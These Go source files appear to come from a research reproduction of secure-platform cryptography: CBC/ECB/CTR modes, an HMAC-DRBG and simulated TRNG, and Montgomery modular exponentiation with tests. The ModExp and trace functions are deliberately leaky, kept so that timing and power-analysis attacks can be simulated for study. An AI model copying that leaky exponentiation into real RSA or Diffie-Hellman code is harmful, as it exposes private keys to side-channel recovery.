var ErrBadPadding = errors.New("modes: invalid padding")

// Pad appends PKCS#7 padding for the given block size and returns the
// padded slice (the input is not modified).
func Pad(data []byte, blockSize int) []byte {
	n := blockSize - len(data)%blockSize
	out := make([]byte, len(data)+n)
	copy(out, data)
	for i := len(data); i < len(out); i++ {
		out[i] = byte(n)
	}
	return out
}

// Unpad strips and validates PKCS#7 padding.
func Unpad(data []byte, blockSize int) ([]byte, error) {
	if len(data) == 0 || len(data)%blockSize != 0 {
		mPadErrors.Inc()
		return nil, ErrBadPadding
	}
	n := int(data[len(data)-1])
	if n == 0 || n > blockSize || n > len(data) {
		mPadErrors.Inc()
		return nil, ErrBadPadding
	}
	for _, b := range data[len(data)-n:] {
		if int(b) != n {
			mPadErrors.Inc()
			return nil, ErrBadPadding
		}
	}
	return data[:len(data)-n], nil
}

// EncryptECB encrypts src (block-aligned) in electronic-codebook mode.
// ECB is provided as the baseline mode; the protocol layers use CBC.
func EncryptECB(b Block, src []byte) ([]byte, error) {
	bs := b.BlockSize()
	if len(src)%bs != 0 {
		return nil, ErrNotBlockAligned
	}
	dst := make([]byte, len(src))
	for i := 0; i < len(src); i += bs {
		b.Encrypt(dst[i:i+bs], src[i:i+bs])
	}
	mECBEncOps.Inc()
	mECBEncBytes.Add(int64(len(src)))
	return dst, nil
}

// DecryptECB decrypts src (block-aligned) in electronic-codebook mode.
func DecryptECB(b Block, src []byte) ([]byte, error) {
	bs := b.BlockSize()
	if len(src)%bs != 0 {
		return nil, ErrNotBlockAligned
	}
	dst := make([]byte, len(src))
	for i := 0; i < len(src); i += bs {
		b.Decrypt(dst[i:i+bs], src[i:i+bs])
	}
	mECBDecOps.Inc()
	mECBDecBytes.Add(int64(len(src)))
	return dst, nil
}

// maxBlockSize bounds the on-stack scratch used by the CBC Into variants;
// every cipher in this repository has 8- or 16-byte blocks.
const maxBlockSize = 16

// EncryptCBC encrypts src (block-aligned) in CBC mode with the given IV.
func EncryptCBC(b Block, iv, src []byte) ([]byte, error) {
	dst := make([]byte, len(src))
	if err := EncryptCBCInto(b, iv, src, dst); err != nil {
		return nil, err
	}
	return dst, nil
}

// EncryptCBCInto is EncryptCBC writing into a caller-provided dst, which
// must be at least len(src) bytes and may alias src exactly (in-place
// encryption). It allocates nothing for block sizes up to 16 bytes; the
// record layers use it with reusable seal buffers.
func EncryptCBCInto(b Block, iv, src, dst []byte) error {
	bs := b.BlockSize()
	if len(iv) != bs {
		return fmt.Errorf("modes: IV length %d != block size %d", len(iv), bs)
	}
	if len(src)%bs != 0 {
		return ErrNotBlockAligned
	}
	if len(dst) < len(src) {
		return fmt.Errorf("modes: dst length %d < src length %d", len(dst), len(src))
	}
	var scratch [maxBlockSize]byte
	tmp := scratch[:]
	if bs > maxBlockSize {
		tmp = make([]byte, bs)
	}
	tmp = tmp[:bs]
	prev := iv
	for i := 0; i < len(src); i += bs {
		bitutil.XORBytes(tmp, src[i:i+bs], prev)
		b.Encrypt(dst[i:i+bs], tmp)
		prev = dst[i : i+bs]
	}
	mCBCEncOps.Inc()
	mCBCEncBytes.Add(int64(len(src)))
	return nil
}

// DecryptCBC decrypts src (block-aligned) in CBC mode with the given IV.
func DecryptCBC(b Block, iv, src []byte) ([]byte, error) {
	dst := make([]byte, len(src))
	if err := DecryptCBCInto(b, iv, src, dst); err != nil {
		return nil, err
	}
	return dst, nil
}

// DecryptCBCInto is DecryptCBC writing into a caller-provided dst, which
// must be at least len(src) bytes and may alias src exactly (in-place
// decryption — the ciphertext block is saved before dst is written).
func DecryptCBCInto(b Block, iv, src, dst []byte) error {
	bs := b.BlockSize()
	if len(iv) != bs {
		return fmt.Errorf("modes: IV length %d != block size %d", len(iv), bs)
	}
	if len(src)%bs != 0 {
		return ErrNotBlockAligned
	}
	if len(dst) < len(src) {
		return fmt.Errorf("modes: dst length %d < src length %d", len(dst), len(src))
	}
	var scratchT, scratchP, scratchC [maxBlockSize]byte
	tmp, prev, ct := scratchT[:], scratchP[:], scratchC[:]
	if bs > maxBlockSize {
		tmp, prev, ct = make([]byte, bs), make([]byte, bs), make([]byte, bs)
	}
	tmp, prev, ct = tmp[:bs], prev[:bs], ct[:bs]
	copy(prev, iv)
	for i := 0; i < len(src); i += bs {
		copy(ct, src[i:i+bs])
		b.Decrypt(tmp, src[i:i+bs])
		bitutil.XORBytes(dst[i:i+bs], tmp, prev)
		prev, ct = ct, prev
	}
	mCBCDecOps.Inc()
	mCBCDecBytes.Add(int64(len(src)))
	return nil
}

// CBCCrypter carries per-connection CBC scratch for repeated operations
// over one Block. The package-level Into variants keep their scratch on
// the stack, but those slices are passed through the Block interface and
// escape-analysis conservatively heap-allocates them on every call; a
// record path that seals millions of records holds a CBCCrypter so the
// scratch is paid once per connection direction instead.
//
// A CBCCrypter is not safe for concurrent use.
type CBCCrypter struct {
	b              Block
	tmp, prev, ct2 []byte
}

// NewCBCCrypter creates reusable CBC scratch for b.
func NewCBCCrypter(b Block) *CBCCrypter {
	bs := b.BlockSize()
	return &CBCCrypter{
		b:    b,
		tmp:  make([]byte, bs),
		prev: make([]byte, bs),
		ct2:  make([]byte, bs),
	}
}

// EncryptInto is EncryptCBCInto against the crypter's block cipher,
// allocation-free for every block size. dst may alias src exactly.
func (c *CBCCrypter) EncryptInto(iv, src, dst []byte) error {
	bs := c.b.BlockSize()
	if len(iv) != bs {
		return fmt.Errorf("modes: IV length %d != block size %d", len(iv), bs)
	}
	if len(src)%bs != 0 {
		return ErrNotBlockAligned
	}
	if len(dst) < len(src) {
		return fmt.Errorf("modes: dst length %d < src length %d", len(dst), len(src))
	}
	tmp := c.tmp
	prev := iv
	for i := 0; i < len(src); i += bs {
		bitutil.XORBytes(tmp, src[i:i+bs], prev)
		c.b.Encrypt(dst[i:i+bs], tmp)
		prev = dst[i : i+bs]
	}
	mCBCEncOps.Inc()
	mCBCEncBytes.Add(int64(len(src)))
	return nil
}

// DecryptInto is DecryptCBCInto against the crypter's block cipher,
// allocation-free for every block size. dst may alias src exactly.
func (c *CBCCrypter) DecryptInto(iv, src, dst []byte) error {
	bs := c.b.BlockSize()
	if len(iv) != bs {
		return fmt.Errorf("modes: IV length %d != block size %d", len(iv), bs)
	}
	if len(src)%bs != 0 {
		return ErrNotBlockAligned
	}
	if len(dst) < len(src) {
		return fmt.Errorf("modes: dst length %d < src length %d", len(dst), len(src))
	}
	tmp, prev, ct := c.tmp, c.prev, c.ct2
	copy(prev, iv)
	for i := 0; i < len(src); i += bs {
		copy(ct, src[i:i+bs])
		c.b.Decrypt(tmp, src[i:i+bs])
		bitutil.XORBytes(dst[i:i+bs], tmp, prev)
		prev, ct = ct, prev
	}
	mCBCDecOps.Inc()
	mCBCDecBytes.Add(int64(len(src)))
	return nil
}

// CTR is a counter-mode stream built over a block cipher. It implements
// XORKeyStream like a stream cipher and may process data of any length.
type CTR struct {
	b       Block
	counter []byte
	stream  []byte
	used    int
}

// NewCTR creates a counter-mode stream with the given initial counter
// block (its length must equal the cipher block size).
func NewCTR(b Block, iv []byte) (*CTR, error) {
	if len(iv) != b.BlockSize() {
		return nil, fmt.Errorf("modes: IV length %d != block size %d", len(iv), b.BlockSize())
	}
	c := &CTR{
		b:       b,
		counter: append([]byte{}, iv...),
		stream:  make([]byte, b.BlockSize()),
		used:    b.BlockSize(),
	}
	return c, nil
}

// XORKeyStream XORs src with the counter-mode keystream into dst.
func (c *CTR) XORKeyStream(dst, src []byte) {
	mCTROps.Inc()
	mCTRBytes.Add(int64(len(src)))
	for i := range src {
		if c.used == len(c.stream) {
			c.b.Encrypt(c.stream, c.counter)
			c.used = 0
			// Increment the counter big-endian.
			for j := len(c.counter) - 1; j >= 0; j-- {
				c.counter[j]++
				if c.counter[j] != 0 {
					break
				}
			}
		}
		dst[i] = src[i] ^ c.stream[c.used]
		c.used++
	}
}
