package prng

import (
	"bytes"
	"testing"
)

func TestDRBGDeterministic(t *testing.T) {
	a := NewDRBG([]byte("seed"))
	b := NewDRBG([]byte("seed"))
	if !bytes.Equal(a.Bytes(64), b.Bytes(64)) {
		t.Fatal("same seed must give same stream")
	}
}

func TestDRBGSeedSeparation(t *testing.T) {
	a := NewDRBG([]byte("seed-1"))
	b := NewDRBG([]byte("seed-2"))
	if bytes.Equal(a.Bytes(64), b.Bytes(64)) {
		t.Fatal("different seeds must give different streams")
	}
}

func TestDRBGReseedChangesStream(t *testing.T) {
	a := NewDRBG([]byte("seed"))
	b := NewDRBG([]byte("seed"))
	a.Bytes(16)
	b.Bytes(16)
	b.Reseed([]byte("fresh entropy"))
	if bytes.Equal(a.Bytes(32), b.Bytes(32)) {
		t.Fatal("reseed must change subsequent output")
	}
	if b.Reseeds() != 1 {
		t.Fatalf("Reseeds = %d, want 1", b.Reseeds())
	}
}

func TestDRBGStreamContinuity(t *testing.T) {
	a := NewDRBG([]byte("s"))
	b := NewDRBG([]byte("s"))
	whole := a.Bytes(100)
	var parts []byte
	for len(parts) < 100 {
		n := 7
		if len(parts)+n > 100 {
			n = 100 - len(parts)
		}
		parts = append(parts, b.Bytes(n)...)
	}
	// Reads of different granularity need not match a single big read in
	// HMAC-DRBG (the update step runs per-Read); what must hold is that
	// equal call sequences match, and neither stream repeats.
	if bytes.Equal(whole[:50], whole[50:]) {
		t.Fatal("DRBG output repeats")
	}
	_ = parts
}

func TestIntnUniformBounds(t *testing.T) {
	d := NewDRBG([]byte("intn"))
	counts := make([]int, 10)
	for i := 0; i < 10000; i++ {
		v := d.Intn(10)
		if v < 0 || v >= 10 {
			t.Fatalf("Intn out of range: %d", v)
		}
		counts[v]++
	}
	for i, c := range counts {
		if c < 700 || c > 1300 {
			t.Fatalf("bucket %d wildly non-uniform: %d/10000", i, c)
		}
	}
}

func TestIntnPanicsOnBadBound(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("Intn(0) did not panic")
		}
	}()
	NewDRBG(nil).Intn(0)
}

func TestFloat64Range(t *testing.T) {
	d := NewDRBG([]byte("f"))
	sum := 0.0
	for i := 0; i < 5000; i++ {
		v := d.Float64()
		if v < 0 || v >= 1 {
			t.Fatalf("Float64 out of range: %v", v)
		}
		sum += v
	}
	mean := sum / 5000
	if mean < 0.45 || mean > 0.55 {
		t.Fatalf("Float64 mean = %v, want ≈0.5", mean)
	}
}

func TestNormFloat64Moments(t *testing.T) {
	d := NewDRBG([]byte("n"))
	n := 20000
	sum, sumSq := 0.0, 0.0
	for i := 0; i < n; i++ {
		v := d.NormFloat64()
		sum += v
		sumSq += v * v
	}
	mean := sum / float64(n)
	variance := sumSq/float64(n) - mean*mean
	if mean < -0.05 || mean > 0.05 {
		t.Fatalf("normal mean = %v, want ≈0", mean)
	}
	if variance < 0.9 || variance > 1.1 {
		t.Fatalf("normal variance = %v, want ≈1", variance)
	}
}

func TestByteFrequency(t *testing.T) {
	d := NewDRBG([]byte("freq"))
	buf := d.Bytes(1 << 16)
	var counts [256]int
	for _, b := range buf {
		counts[b]++
	}
	expect := len(buf) / 256
	for v, c := range counts {
		if c < expect/2 || c > expect*2 {
			t.Fatalf("byte %#x frequency %d far from expected %d", v, c, expect)
		}
	}
}

func TestTRNGBudget(t *testing.T) {
	tr := NewTRNG([]byte("hw"), 16)
	buf := make([]byte, 16)
	if _, err := tr.Read(buf); err != ErrEntropyExhausted {
		t.Fatalf("expected exhaustion before Harvest, got %v", err)
	}
	tr.Harvest()
	if _, err := tr.Read(buf); err != nil {
		t.Fatalf("Read after Harvest: %v", err)
	}
	if tr.DeliveredBytes() != 16 {
		t.Fatalf("DeliveredBytes = %d, want 16", tr.DeliveredBytes())
	}
	if _, err := tr.Read(buf); err != ErrEntropyExhausted {
		t.Fatal("budget should be exhausted again")
	}
}

func TestTRNGHealthTest(t *testing.T) {
	tr := NewTRNG([]byte("hw"), 64)
	tr.Harvest()
	tr.InjectStuckFault(0xAA)
	if _, err := tr.Read(make([]byte, 8)); err != ErrHealthTest {
		t.Fatalf("stuck fault not detected, err = %v", err)
	}
	tr.ClearFault()
	if _, err := tr.Read(make([]byte, 8)); err != nil {
		t.Fatalf("Read after ClearFault: %v", err)
	}
}

func TestTRNGDefaultRate(t *testing.T) {
	tr := NewTRNG(nil, 0)
	tr.Harvest()
	if _, err := tr.Read(make([]byte, 32)); err != nil {
		t.Fatalf("default harvest rate should cover 32 bytes: %v", err)
	}
}
