// Package prng provides the platform's random-number sources: a
// deterministic HMAC-DRBG (the firmware PRNG) and a simulated hardware
// true-random-number generator.
//
// Section 4.1 of the paper places "true random number generation ...
// provided for with a HW-based random number generator" at the foundation
// of the secure platform architecture; the TRNG model here stands in for
// that block, and the DRBG is the deterministic expansion firmware layers
// on top of it.
package prng

import (
	"errors"
	"hash"

	"repro/internal/crypto/hmac"
	"repro/internal/crypto/sha1"
)

// DRBG is a deterministic random bit generator in the style of the
// SP 800-90A HMAC_DRBG, built over HMAC-SHA-1. It implements io.Reader.
// It is deliberately deterministic given its seed, which keeps every
// experiment in this repository reproducible.
type DRBG struct {
	k, v    []byte
	reseeds int
}

// NewDRBG creates a DRBG seeded with the given entropy input.
func NewDRBG(seed []byte) *DRBG {
	d := &DRBG{
		k: make([]byte, sha1.Size),
		v: make([]byte, sha1.Size),
	}
	for i := range d.v {
		d.v[i] = 0x01
	}
	d.update(seed)
	return d
}

func (d *DRBG) hmac(key []byte, parts ...[]byte) []byte {
	h := hmac.New(func() hash.Hash { return sha1.New() }, key)
	for _, p := range parts {
		h.Write(p)
	}
	return h.Sum(nil)
}

func (d *DRBG) update(provided []byte) {
	d.k = d.hmac(d.k, d.v, []byte{0x00}, provided)
	d.v = d.hmac(d.k, d.v)
	if len(provided) > 0 {
		d.k = d.hmac(d.k, d.v, []byte{0x01}, provided)
		d.v = d.hmac(d.k, d.v)
	}
}

// Reseed mixes additional entropy into the generator state.
func (d *DRBG) Reseed(entropy []byte) {
	d.update(entropy)
	d.reseeds++
}

// Reseeds reports how many times the generator has been reseeded.
func (d *DRBG) Reseeds() int { return d.reseeds }

// Read fills p with pseudorandom bytes. It never fails.
func (d *DRBG) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) {
		d.v = d.hmac(d.k, d.v)
		n += copy(p[n:], d.v)
	}
	d.update(nil)
	return len(p), nil
}

// Bytes returns n fresh pseudorandom bytes.
func (d *DRBG) Bytes(n int) []byte {
	b := make([]byte, n)
	d.Read(b) //nolint:errcheck // never fails
	return b
}

// Intn returns a uniformly distributed integer in [0, n).
func (d *DRBG) Intn(n int) int {
	if n <= 0 {
		panic("prng: Intn with non-positive bound")
	}
	// Rejection sampling over 4-byte draws to avoid modulo bias.
	limit := (1 << 31) / n * n
	for {
		b := d.Bytes(4)
		v := int(uint32(b[0])<<24|uint32(b[1])<<16|uint32(b[2])<<8|uint32(b[3])) & 0x7fffffff
		if v < limit {
			return v % n
		}
	}
}

// Float64 returns a uniformly distributed float in [0, 1).
func (d *DRBG) Float64() float64 {
	b := d.Bytes(8)
	var v uint64
	for _, x := range b {
		v = v<<8 | uint64(x)
	}
	return float64(v>>11) / (1 << 53)
}

// NormFloat64 returns a normally distributed float (mean 0, stddev 1)
// using the Box-Muller transform. Used by the DPA trace noise model.
func (d *DRBG) NormFloat64() float64 {
	// Marsaglia polar method without math.Log dependency would need logs
	// anyway; use Box-Muller with the math package at the call site
	// instead. To keep this package math-free we approximate with the
	// sum of 12 uniforms (Irwin-Hall), which is accurate to ~1e-2 and
	// plenty for a leakage noise model.
	s := 0.0
	for i := 0; i < 12; i++ {
		s += d.Float64()
	}
	return s - 6.0
}

// TRNG simulates the hardware true-random-number generator of the paper's
// base architecture (Figure 6). It models an entropy source with a finite
// harvest rate and a health test, and is itself seeded so the whole
// platform stays reproducible.
type TRNG struct {
	src        *DRBG
	harvested  int
	rateBytes  int // bytes available per Harvest call
	available  int
	failStuck  bool // health-test failure injection
	stuckValue byte
}

// NewTRNG creates a simulated TRNG with the given seed and per-harvest
// byte budget (modelling the limited bandwidth of a ring-oscillator
// entropy source).
func NewTRNG(seed []byte, bytesPerHarvest int) *TRNG {
	if bytesPerHarvest <= 0 {
		bytesPerHarvest = 32
	}
	return &TRNG{src: NewDRBG(append([]byte("trng:"), seed...)), rateBytes: bytesPerHarvest}
}

// Harvest makes one harvest period's worth of entropy available.
func (t *TRNG) Harvest() { t.available += t.rateBytes }

// InjectStuckFault forces the entropy source to emit a constant value,
// simulating the environmental fault-induction attacks of Section 3.4;
// the health test in Read must then refuse to deliver entropy.
func (t *TRNG) InjectStuckFault(v byte) {
	t.failStuck = true
	t.stuckValue = v
}

// ClearFault removes an injected fault.
func (t *TRNG) ClearFault() { t.failStuck = false }

// ErrEntropyExhausted reports a Read larger than the harvested budget.
var ErrEntropyExhausted = errors.New("prng: trng entropy exhausted; call Harvest")

// ErrHealthTest reports that the entropy health test rejected the source
// output (e.g. a stuck-at fault).
var ErrHealthTest = errors.New("prng: trng health test failed")

// Read delivers up to the harvested entropy budget. It applies a
// repetition-count health test and fails closed under injected faults.
func (t *TRNG) Read(p []byte) (int, error) {
	if len(p) > t.available {
		return 0, ErrEntropyExhausted
	}
	if t.failStuck {
		// A stuck source emits a constant; the repetition-count test
		// trips and the TRNG refuses to deliver.
		return 0, ErrHealthTest
	}
	t.src.Read(p) //nolint:errcheck // never fails
	t.available -= len(p)
	t.harvested += len(p)
	return len(p), nil
}

// DeliveredBytes reports the total entropy delivered so far.
func (t *TRNG) DeliveredBytes() int { return t.harvested }
