// Package mp provides the multi-precision modular arithmetic used by the
// public-key algorithms (RSA, Diffie-Hellman): Montgomery multiplication,
// leaky and constant-time modular exponentiation, and a simulated cycle
// meter.
//
// The paper's tamper-resistance section (3.4) singles out the timing
// attack on modular exponentiation [47] as the canonical side-channel.
// Real timing attacks exploit the data-dependent "extra reduction" at the
// end of a Montgomery multiplication; this package implements genuine
// Montgomery reduction (REDC) over math/big and *meters* each operation in
// simulated cycles of a 32-bit embedded CPU, so the attack in
// internal/attack/timing operates on exactly the signal the literature
// describes — deterministically and without wall-clock noise.
package mp

import (
	"errors"
	"math/big"
)

// WordBits is the simulated embedded-CPU word size. The paper's subject
// processors (ARM7/9, SA-1100, embedded MIPS) are 32-bit machines.
const WordBits = 32

// CycleMeter accumulates simulated execution cycles.
type CycleMeter struct {
	cycles uint64
}

// Add accumulates n cycles.
func (m *CycleMeter) Add(n uint64) {
	if m != nil {
		m.cycles += n
	}
}

// Cycles returns the accumulated cycle count.
func (m *CycleMeter) Cycles() uint64 {
	if m == nil {
		return 0
	}
	return m.cycles
}

// Reset zeroes the meter.
func (m *CycleMeter) Reset() {
	if m != nil {
		m.cycles = 0
	}
}

// ErrEvenModulus reports a modulus unusable for Montgomery arithmetic.
var ErrEvenModulus = errors.New("mp: modulus must be odd and > 1")

// MontCtx holds precomputed Montgomery parameters for an odd modulus N.
type MontCtx struct {
	N      *big.Int
	rbits  uint     // R = 2^rbits, a whole number of words
	rMask  *big.Int // R-1
	nPrime *big.Int // -N^{-1} mod R
	rr     *big.Int // R^2 mod N, converts into Montgomery form
	one    *big.Int // R mod N, the Montgomery representation of 1
	words  int      // modulus length in simulated CPU words

	// Per-operation cycle costs, derived from the word count. A k-word
	// operand costs ~k^2 word multiplies for a multiplication, squares
	// are ~25% cheaper, and the extra reduction is a k-word subtraction.
	costMul, costSquare, costExtra uint64
}

// NewMontCtx prepares Montgomery arithmetic modulo n.
func NewMontCtx(n *big.Int) (*MontCtx, error) {
	if n.Sign() <= 0 || n.Bit(0) == 0 || n.BitLen() < 2 {
		return nil, ErrEvenModulus
	}
	words := (n.BitLen() + WordBits - 1) / WordBits
	rbits := uint(words * WordBits)
	r := new(big.Int).Lsh(big.NewInt(1), rbits)
	rMask := new(big.Int).Sub(r, big.NewInt(1))
	inv := new(big.Int).ModInverse(n, r)
	if inv == nil {
		return nil, ErrEvenModulus
	}
	nPrime := new(big.Int).Sub(r, inv) // -N^{-1} mod R
	rr := new(big.Int).Mod(new(big.Int).Mul(r, r), n)
	one := new(big.Int).Mod(r, n)
	w := uint64(words)
	return &MontCtx{
		N:          new(big.Int).Set(n),
		rbits:      rbits,
		rMask:      rMask,
		nPrime:     nPrime,
		rr:         rr,
		one:        one,
		words:      words,
		costMul:    4*w*w + 6*w,
		costSquare: 3*w*w + 6*w,
		costExtra:  2 * w,
	}, nil
}

// Words returns the modulus length in simulated CPU words.
func (c *MontCtx) Words() int { return c.words }

// CostExtraReduction returns the simulated cycle cost of the final
// conditional subtraction — the quantity a timing attacker estimates.
func (c *MontCtx) CostExtraReduction() uint64 { return c.costExtra }

// redc computes t·R^{-1} mod N for t < R·N, reporting whether the final
// conditional subtraction ("extra reduction") fired.
func (c *MontCtx) redc(t *big.Int) (*big.Int, bool) {
	m := new(big.Int).And(t, c.rMask)
	m.Mul(m, c.nPrime)
	m.And(m, c.rMask)
	u := new(big.Int).Mul(m, c.N)
	u.Add(u, t)
	u.Rsh(u, c.rbits)
	extra := u.Cmp(c.N) >= 0
	if extra {
		u.Sub(u, c.N)
	}
	return u, extra
}

// ToMont converts x (reduced mod N) into Montgomery form.
func (c *MontCtx) ToMont(x *big.Int) *big.Int {
	t := new(big.Int).Mul(new(big.Int).Mod(x, c.N), c.rr)
	v, _ := c.redc(t)
	return v
}

// FromMont converts a Montgomery-form value back to the ordinary residue.
func (c *MontCtx) FromMont(x *big.Int) *big.Int {
	v, _ := c.redc(new(big.Int).Set(x))
	return v
}

// MulMont multiplies two Montgomery-form values, reporting the
// extra-reduction flag. This is the primitive the timing attack emulates.
func (c *MontCtx) MulMont(a, b *big.Int) (*big.Int, bool) {
	return c.redc(new(big.Int).Mul(a, b))
}

// One returns the Montgomery representation of 1.
func (c *MontCtx) One() *big.Int { return new(big.Int).Set(c.one) }

// ModExp computes base^exp mod N with a left-to-right square-and-multiply
// over Montgomery arithmetic. Its simulated timing (accumulated into
// meter, which may be nil) is data-dependent in exactly the way the
// Kocher/Dhem timing attacks exploit: per-operation cost differs between
// squares and multiplies, and each operation may or may not incur the
// extra-reduction subtraction.
func (c *MontCtx) ModExp(base, exp *big.Int, meter *CycleMeter) *big.Int {
	if exp.Sign() == 0 {
		return new(big.Int).Mod(big.NewInt(1), c.N)
	}
	bm := c.ToMont(base)
	acc := c.One()
	var extra bool
	for i := exp.BitLen() - 1; i >= 0; i-- {
		acc, extra = c.MulMont(acc, acc)
		meter.Add(c.costSquare)
		if extra {
			meter.Add(c.costExtra)
		}
		if exp.Bit(i) == 1 {
			acc, extra = c.MulMont(acc, bm)
			meter.Add(c.costMul)
			if extra {
				meter.Add(c.costExtra)
			}
		}
	}
	return c.FromMont(acc)
}

// ModExpConstTime computes base^exp mod N with a Montgomery ladder whose
// simulated timing is independent of both the exponent bits and the data:
// every iteration performs one multiply and one square, and the extra
// reduction is charged unconditionally (modelling an implementation that
// always executes the subtraction and discards it when unneeded). This is
// the countermeasure of Section 3.4 in executable form.
func (c *MontCtx) ModExpConstTime(base, exp *big.Int, meter *CycleMeter) *big.Int {
	if exp.Sign() == 0 {
		return new(big.Int).Mod(big.NewInt(1), c.N)
	}
	r0 := c.One()
	r1 := c.ToMont(base)
	for i := exp.BitLen() - 1; i >= 0; i-- {
		if exp.Bit(i) == 0 {
			r1, _ = c.MulMont(r0, r1)
			r0, _ = c.MulMont(r0, r0)
		} else {
			r0, _ = c.MulMont(r0, r1)
			r1, _ = c.MulMont(r1, r1)
		}
		// Uniform charge: mul + square + one always-taken extra
		// reduction, independent of data and key bits.
		meter.Add(c.costMul + c.costSquare + c.costExtra)
	}
	return c.FromMont(r0)
}

// windowBits is the fixed window width used by ModExpWindow.
const windowBits = 4

// ModExpWindow computes base^exp mod N with a 4-bit fixed-window
// exponentiation over Montgomery arithmetic. Every window performs exactly
// four squares and one table multiply (multiplying by the Montgomery 1 for
// a zero window), so the square/multiply sequence depends only on the
// exponent bit-length, not on its bits. It trades sixteen table entries
// for roughly one multiply per four bits saved against square-and-multiply
// on dense exponents; the RSA private path and Diffie-Hellman use it.
// ModExp remains the deliberately leaky variant the side-channel attacks
// consume — its operation sequence must not change.
func (c *MontCtx) ModExpWindow(base, exp *big.Int, meter *CycleMeter) *big.Int {
	if exp.Sign() == 0 {
		return new(big.Int).Mod(big.NewInt(1), c.N)
	}
	var table [1 << windowBits]*big.Int
	table[0] = c.One()
	table[1] = c.ToMont(base)
	var extra bool
	for w := 2; w < len(table); w++ {
		table[w], extra = c.MulMont(table[w-1], table[1])
		meter.Add(c.costMul)
		if extra {
			meter.Add(c.costExtra)
		}
	}
	windows := (exp.BitLen() + windowBits - 1) / windowBits
	acc := c.One()
	for wi := windows - 1; wi >= 0; wi-- {
		for s := 0; s < windowBits; s++ {
			acc, extra = c.MulMont(acc, acc)
			meter.Add(c.costSquare)
			if extra {
				meter.Add(c.costExtra)
			}
		}
		w := 0
		for b := windowBits - 1; b >= 0; b-- {
			w = w<<1 | int(exp.Bit(wi*windowBits+b))
		}
		acc, extra = c.MulMont(acc, table[w])
		meter.Add(c.costMul)
		if extra {
			meter.Add(c.costExtra)
		}
	}
	return c.FromMont(acc)
}

// ExpCycleCosts reports the simulated (square, multiply, extra) costs so
// the cost model in internal/cost and the attack threshold can share them.
func (c *MontCtx) ExpCycleCosts() (square, mul, extra uint64) {
	return c.costSquare, c.costMul, c.costExtra
}

// ModExpWithTrace is ModExp with a per-operation duration trace — the
// signal a simple power analysis (SPA) probe sees: one amplitude sample
// per modular operation. Squares and multiplies have different durations,
// so the operation sequence (and with it the exponent) is readable
// straight off the trace; internal/attack/spa does exactly that.
func (c *MontCtx) ModExpWithTrace(base, exp *big.Int, meter *CycleMeter) (*big.Int, []uint64) {
	if exp.Sign() == 0 {
		return new(big.Int).Mod(big.NewInt(1), c.N), nil
	}
	var trace []uint64
	bm := c.ToMont(base)
	acc := c.One()
	var extra bool
	for i := exp.BitLen() - 1; i >= 0; i-- {
		acc, extra = c.MulMont(acc, acc)
		d := c.costSquare
		if extra {
			d += c.costExtra
		}
		trace = append(trace, d)
		meter.Add(d)
		if exp.Bit(i) == 1 {
			acc, extra = c.MulMont(acc, bm)
			d := c.costMul
			if extra {
				d += c.costExtra
			}
			trace = append(trace, d)
			meter.Add(d)
		}
	}
	return c.FromMont(acc), trace
}

// ModExpConstTimeWithTrace is the Montgomery-ladder counterpart: every
// iteration emits one uniform sample, so the trace is flat and carries no
// key information.
func (c *MontCtx) ModExpConstTimeWithTrace(base, exp *big.Int, meter *CycleMeter) (*big.Int, []uint64) {
	if exp.Sign() == 0 {
		return new(big.Int).Mod(big.NewInt(1), c.N), nil
	}
	var trace []uint64
	r0 := c.One()
	r1 := c.ToMont(base)
	uniform := c.costMul + c.costSquare + c.costExtra
	for i := exp.BitLen() - 1; i >= 0; i-- {
		if exp.Bit(i) == 0 {
			r1, _ = c.MulMont(r0, r1)
			r0, _ = c.MulMont(r0, r0)
		} else {
			r0, _ = c.MulMont(r0, r1)
			r1, _ = c.MulMont(r1, r1)
		}
		trace = append(trace, uniform)
		meter.Add(uniform)
	}
	return c.FromMont(r0), trace
}
