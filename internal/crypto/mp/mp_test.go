package mp

import (
	"math/big"
	"math/rand"
	"testing"
	"testing/quick"
)

func randOddModulus(rng *rand.Rand, bits int) *big.Int {
	n := new(big.Int).Rand(rng, new(big.Int).Lsh(big.NewInt(1), uint(bits)))
	n.SetBit(n, bits-1, 1)
	n.SetBit(n, 0, 1)
	return n
}

func TestNewMontCtxRejectsBadModuli(t *testing.T) {
	for _, n := range []int64{0, -5, 4, 1} {
		if _, err := NewMontCtx(big.NewInt(n)); err == nil {
			t.Errorf("accepted modulus %d", n)
		}
	}
}

func TestMontRoundtrip(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 50; i++ {
		n := randOddModulus(rng, 128)
		ctx, err := NewMontCtx(n)
		if err != nil {
			t.Fatal(err)
		}
		x := new(big.Int).Rand(rng, n)
		back := ctx.FromMont(ctx.ToMont(x))
		if back.Cmp(x) != 0 {
			t.Fatalf("Mont roundtrip failed for %v mod %v", x, n)
		}
	}
}

func TestMulMontMatchesBigInt(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	for i := 0; i < 100; i++ {
		n := randOddModulus(rng, 96)
		ctx, _ := NewMontCtx(n)
		a := new(big.Int).Rand(rng, n)
		b := new(big.Int).Rand(rng, n)
		am, bm := ctx.ToMont(a), ctx.ToMont(b)
		pm, _ := ctx.MulMont(am, bm)
		got := ctx.FromMont(pm)
		want := new(big.Int).Mod(new(big.Int).Mul(a, b), n)
		if got.Cmp(want) != 0 {
			t.Fatalf("MulMont(%v,%v) mod %v = %v, want %v", a, b, n, got, want)
		}
	}
}

func TestModExpMatchesBigExp(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	for i := 0; i < 60; i++ {
		n := randOddModulus(rng, 160)
		ctx, _ := NewMontCtx(n)
		base := new(big.Int).Rand(rng, n)
		exp := new(big.Int).Rand(rng, new(big.Int).Lsh(big.NewInt(1), 64))
		got := ctx.ModExp(base, exp, nil)
		want := new(big.Int).Exp(base, exp, n)
		if got.Cmp(want) != 0 {
			t.Fatalf("ModExp mismatch: base %v exp %v mod %v", base, exp, n)
		}
	}
}

func TestModExpConstTimeMatchesBigExp(t *testing.T) {
	rng := rand.New(rand.NewSource(4))
	for i := 0; i < 60; i++ {
		n := randOddModulus(rng, 160)
		ctx, _ := NewMontCtx(n)
		base := new(big.Int).Rand(rng, n)
		exp := new(big.Int).Rand(rng, new(big.Int).Lsh(big.NewInt(1), 64))
		got := ctx.ModExpConstTime(base, exp, nil)
		want := new(big.Int).Exp(base, exp, n)
		if got.Cmp(want) != 0 {
			t.Fatalf("ModExpConstTime mismatch: base %v exp %v mod %v", base, exp, n)
		}
	}
}

